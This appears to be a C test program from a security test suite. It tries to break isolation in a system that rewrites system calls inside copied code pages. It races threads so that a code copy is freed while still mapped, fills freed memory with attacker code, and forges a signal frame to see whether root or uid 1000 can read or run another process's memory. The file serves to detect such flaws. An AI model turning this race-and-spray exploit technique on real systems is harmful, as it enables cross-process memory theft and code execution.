// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Copies of code in which system calls are rewritten, and what becomes of them while
 * somebody still has them mapped. MILLISECONDS a way.
 *
 * A process has a page of a file mapped, and a copy of it, as it makes calls there. One of its
 * threads (or the same one, after an event that never happened) goes on in the
 * page and makes no call; another makes one more, which asks for a new copy, and sleeps in
 * it. Meanwhile others make calls in the same page, and fill all memory that
 * becomes free with code of their own. The thread must never read or execute that.
 *
 * As guest root: both directions between root and uid 1000.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <linux/audit.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PAGES 64		/* of the file; a try takes one */
#define SITES 64		/* in each */
#define FIRST 0x100
#define APART 32
#define DATA 0xd00		/* from here on nothing is ever patched */
#define GOOD 0x600d0000U	/* the page's function returns it, with the page's number */
#define BAD 0xbad0badU		/* what the fillers' code returns */
#define FILL 16			/* pages at a time, in memory and in a pipe, */
#define FILLS 24		/* so often for a try, */
#define FILL_US 6000		/* with so much in between: what RCU frees takes tens of milliseconds */

enum { IDLE, ADD, FILLING, DONE };

static struct {
	volatile int state;		/* of a try: what the others are to do */
	volatile int page;
	volatile int ready;		/* the thread in the page is at work */
	volatile int stop;
	volatile int added, filled;
} *round;
static unsigned int pause_us;	/* of the others: who is not stopped for them can forge an event */
static int wake[2];		/* a pipe: the call that sleeps reads it */
static char byte;

static char path[64];
static const unsigned char *code;	/* the file, private and executable */

static long call_at(const unsigned char *site, long nr, long a, long b, long c)
{
	register long ax __asm__("rax") = nr;
	register long di __asm__("rdi") = a;
	register long si __asm__("rsi") = b;
	register long dx __asm__("rdx") = c;

	__asm__ volatile("call *%4" : "+r"(ax) : "r"(di), "r"(si), "r"(dx), "r"(site) : "rcx", "r11", "memory", "cc");
	return ax;
}

static void quick_call(const unsigned char *site)
{
	call_at(site, SYS_getppid, 0, 0, 0);
}

static const unsigned char *site(int page, int n)
{
	return code + page * PAGE + FIRST + n * APART;
}

static void make_file(void)
{
	static unsigned char p[PAGE];
	int fd, i, n;

	snprintf(path, sizeof(path), "/tmp/copies-%d", getpid());
	fd = open(path, O_RDWR | O_CREAT | O_EXCL, 0644);
	if (fd < 0)
		cannot("no file");
	for (i = 0; i < PAGES; i++) {
		unsigned int good = GOOD | i;

		memset(p, 0x90, sizeof(p));
		p[0x10] = 0xb8;				/* mov $good, %eax; ret */
		memcpy(p + 0x11, &good, 4);
		p[0x15] = 0xc3;
		for (n = 0; n < SITES; n++)		/* syscall; cmp $-4095, %rax; ret */
			memcpy(p + FIRST + n * APART, "\x0f\x05\x48\x3d\x01\xf0\xff\xff\xc3", 9);
		memset(p + DATA, 0x40 + i, PAGE - DATA);
		if (write(fd, p, PAGE) != PAGE)
			cannot("no room for a file");
	}
	close(fd);
}

static void map_file(void)
{
	int fd = open(path, O_RDONLY);

	code = mmap(NULL, PAGES * PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	if (fd < 0 || code == MAP_FAILED)
		cannot("cannot map the file");
	close(fd);
}

/* The page has been given to somebody else: who, and is it executed? */
static void tell(int page)
{
	const volatile unsigned char *p = code + page * PAGE;
	unsigned int (*function)(void) = (void *)(p + 0x10), bad = 0, i;
	const char *who = getuid() ? "uid 1000" : "root";

	for (i = 0; i < 10000000 && bad != BAD; i++)
		bad = *(const volatile unsigned int *)(p + PAGE - 7);
	if (bad == BAD)
		through("%s reads memory of another process, and executes it: %#x", who, function());
	else
		through("%s reads memory that is not its own", who);
}

/* Is the page what the file says? Reads and executes it; makes no call. */
static bool intact(int page)
{
	const volatile unsigned char *p = code + page * PAGE;
	unsigned int (*function)(void) = (void *)(p + 0x10), i;

	for (i = DATA; i < PAGE; i += 64) {
		if (p[i] != 0x40 + page) {
			tell(page);
			return false;
		}
	}
	if (function() == (GOOD | page))
		return true;
	tell(page);
	return false;
}

static void *watch(void *unused)
{
	char own[32768];
	stack_t ss = { .ss_sp = own, .ss_size = sizeof(own) };
	int page;

	sigaltstack(&ss, NULL);
	stay_on(cpus() - 1);
	while (!round->stop) {
		page = round->page;
		trying = 1;
		if (TRY()) {
			while (page == round->page && !round->stop) {
				if (!intact(page))
					round->stop = 1;
				shared->word[1]++;
				round->ready = page + 1;
			}
		} else {
			through("%s: signal %d in a page that has not changed", getuid() ? "uid 1000" : "root", caught.sig);
			round->stop = 1;
		}
		trying = 0;
	}
	return NULL;
}

/* Two calls that are quick, and so a copy; then one more place, of which the second sleeps. */
static void two_threads(int page)
{
	int spins;

	quick_call(site(page, 0));
	quick_call(site(page, 0));
	quick_call(site(page, 0));
	round->ready = 0;
	round->page = page;
	for (spins = 0; round->ready != page + 1 && spins < 1000 && !round->stop; spins++)
		usleep(100);
	quick_call(site(page, 1));
	round->state = ADD;
	call_at(site(page, 1), SYS_read, wake[0], (long)&byte, 1);
}

#define SI_ADDR 16
#define SI_ARCH 28

/* Where the kernel thinks that the call returns to. */
static void ghost_end(void)
{
	_exit(0);
}

/* Says that it made a call that sleeps, and goes on. It may end as it likes. */
static int ghost_child(long page)
{
	struct r3_slot *slot = (void *)stay_on(0);
	static const struct itimerval often = { { 0, 300 }, { 0, 300 } };
	static unsigned long stack[8 * PAGE / 8];
	unsigned long *top = stack + 8 * PAGE / 8 - 1;
	struct frame *frame;
	long spins;

	/* Interrupts that wake nobody: at one the vCPU sees the event, and need not stop us. */
	signal(SIGALRM, SIG_IGN);
	setitimer(ITIMER_REAL, &often, NULL);
	quick_call(site(page, 0));
	quick_call(site(page, 0));
	quick_call(site(page, 0));
	quick_call(site(page, 1));
	if (!intact(page))
		return 1;
	round->page = page;
	*top = (unsigned long)ghost_end;
	readable(NOWHERE);		/* now the slot has a frame */
	if (!slot->uc || !slot->info)
		return 0;
	trying = 1;
	/* From here on nothing may fault: the host would write its own frame over ours. */
	shared->word[2]++;
	if (!TRY()) {
		/* Of the page itself, and not of what became of the frame. */
		if (caught.ip - (unsigned long)site(page, 0) + FIRST < FIRST)
			through("%s executes memory that is not its own: signal %d", getuid() ? "uid 1000" : "root", caught.sig);
		return 0;
	}
	round->state = ADD;
	frame = (void *)slot->uc;
	frame->fpstate = (unsigned long)slot + R3_SLOT_FP;
	frame->g[REG_RAX] = SYS_read;
	frame->g[REG_RDI] = wake[0];
	frame->g[REG_RSI] = (unsigned long)&byte;
	frame->g[REG_RDX] = 1;
	frame->g[REG_RSP] = (unsigned long)top;
	frame->g[REG_RIP] = (unsigned long)site(page, 1) + 2;
	*(unsigned long *)(slot->info + SI_ADDR) = (unsigned long)site(page, 1) + 2;
	*(int *)(slot->info + SI_ARCH) = AUDIT_ARCH_X86_64;
	slot->sig = SIGSYS;
	slot->resume = 0;
	slot->event = 1;
	for (spins = 0; *(volatile __u32 *)&slot->resume != 1 && spins < 100000000; spins++) {
		if (!intact(page))
			break;
		shared->word[1]++;
	}
	return 0;
}

static void ghost(int page)
{
	in_child(ghost_child, page, 3000);
}

/* ---- the others: beside the thread on CPU 0, so that this one is not interrupted ---- */

static void adder(void)
{
	int page;

	stay_on(0);
	map_file();
	while (!round->stop) {
		if (round->state != ADD) {
			usleep(pause_us);
			continue;
		}
		page = round->page;
		usleep(10 * pause_us);
		quick_call(site(page, 2));
		quick_call(site(page, 2));
		/* No more of them: the next copy would be where the last one was. */
		round->state = FILLING;
		round->added++;
	}
}

/*
 * Memory that has just become free is the next to be used; by a pipe if the kernel had
 * it for itself.
 */
static void filler(void)
{
	static unsigned char p[PAGE];
	static char *m[FILLS];
	const unsigned int bad = BAD;
	int i, n, fd[FILLS][2];

	stay_on(0);
	memset(p, 0x90, sizeof(p));
	p[PAGE - 8] = 0xb8;		/* mov $bad, %eax; ret */
	memcpy(p + PAGE - 7, &bad, 4);
	p[PAGE - 3] = 0xc3;
	while (!round->stop) {
		if (round->state != FILLING) {
			usleep(pause_us);
			continue;
		}
		for (n = 0; n < FILLS; n++) {
			m[n] = mmap(NULL, FILL * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			if (m[n] == MAP_FAILED || pipe(fd[n]))
				cannot("no memory to fill");
			for (i = 0; i < FILL; i++) {
				memcpy(m[n] + i * PAGE, p, PAGE);
				if (i && write(fd[n][1], p, PAGE) != PAGE)
					cannot("write");
			}
			usleep(FILL_US);
		}
		for (n = 0; n < FILLS; n++) {
			munmap(m[n], FILL * PAGE);
			close(fd[n][0]);
			close(fd[n][1]);
		}
		round->filled++;
		if (write(wake[1], &byte, 1) != 1)
			cannot("write");
		round->state = DONE;
	}
	/* Whoever still sleeps. */
	if (write(wake[1], "", 1) != 1)
		cannot("write");
}

static void become(unsigned int uid)
{
	if (!getuid() && uid && (setresgid(uid, uid, uid) || setresuid(uid, uid, uid)))
		cannot("setresuid");
	/* What has changed its uid does not die with its parent otherwise. */
	prctl(PR_SET_PDEATHSIG, SIGKILL);
}

static int start(void (*fn)(void), unsigned int uid)
{
	int pid = fork();

	if (!pid) {
		become(uid);
		fn();
		_exit(0);
	}
	return pid;
}

static void owner(void (*fn)(int page), bool threads, long ms)
{
	struct timespec t, now;
	pthread_t thread;
	int page = 0, left;

	map_file();
	round->page = 0;
	if (threads && pthread_create(&thread, NULL, watch, NULL))
		cannot("no thread");
	stay_on(0);
	clock_gettime(CLOCK_MONOTONIC, &t);
	do {
		/* What woke nobody the last time. */
		while (!ioctl(wake[0], FIONREAD, &left) && left)
			if (read(wake[0], &byte, 1) != 1)
				cannot("read");
		fn(page);
		page++;
		while ((round->state == ADD || round->state == FILLING) && !round->stop)
			usleep(1000);
		shared->word[0]++;
		usleep(1000);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (page < PAGES && !round->stop && !shared->through &&
		 (now.tv_sec - t.tv_sec) * 1000 + (now.tv_nsec - t.tv_nsec) / 1000000 < ms);
	round->stop = 1;
	if (threads)
		pthread_join(thread, NULL);
	_exit(0);
}

static void way(void (*fn)(int page), bool threads, unsigned int victim, unsigned int others, long ms)
{
	int pid[3], i, status;

	memset(round, 0, sizeof(*round));
	pause_us = threads ? 200 : 4000;
	if (pipe(wake))
		cannot("no pipe");
	make_file();
	pid[1] = start(adder, others);
	pid[2] = start(filler, others);
	pid[0] = fork();
	if (!pid[0]) {
		become(victim);
		owner(fn, threads, ms);
	}
	for (i = 0; i < 3; i++) {
		while (waitpid(pid[i], &status, 0) != pid[i])
			;
		if (i == 0 && status)
			through("the victim ended (%#x)", status);
		round->stop = 1;
	}
	if (!shared->through && (!round->added || !round->filled))
		cannot("nobody else was at work");
	unlink(path);
	close(wake[0]);
	close(wake[1]);
}

int main(int argc, char **argv)
{
	long ms = argc > 1 ? atol(argv[1]) : 2000;

	attack_init();
	round = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (round == MAP_FAILED)
		cannot("no memory");
	if (cpus() > 1) {
		way(two_threads, true, 0, 1000, ms);
		way(two_threads, true, 1000, 0, ms);
	}
	way(ghost, false, 1000, 0, ms);
	way(ghost, false, 0, 1000, ms);
	printf("%lu tries, %lu looks\n", shared->word[0], shared->word[1]);
	return attack_end();
}
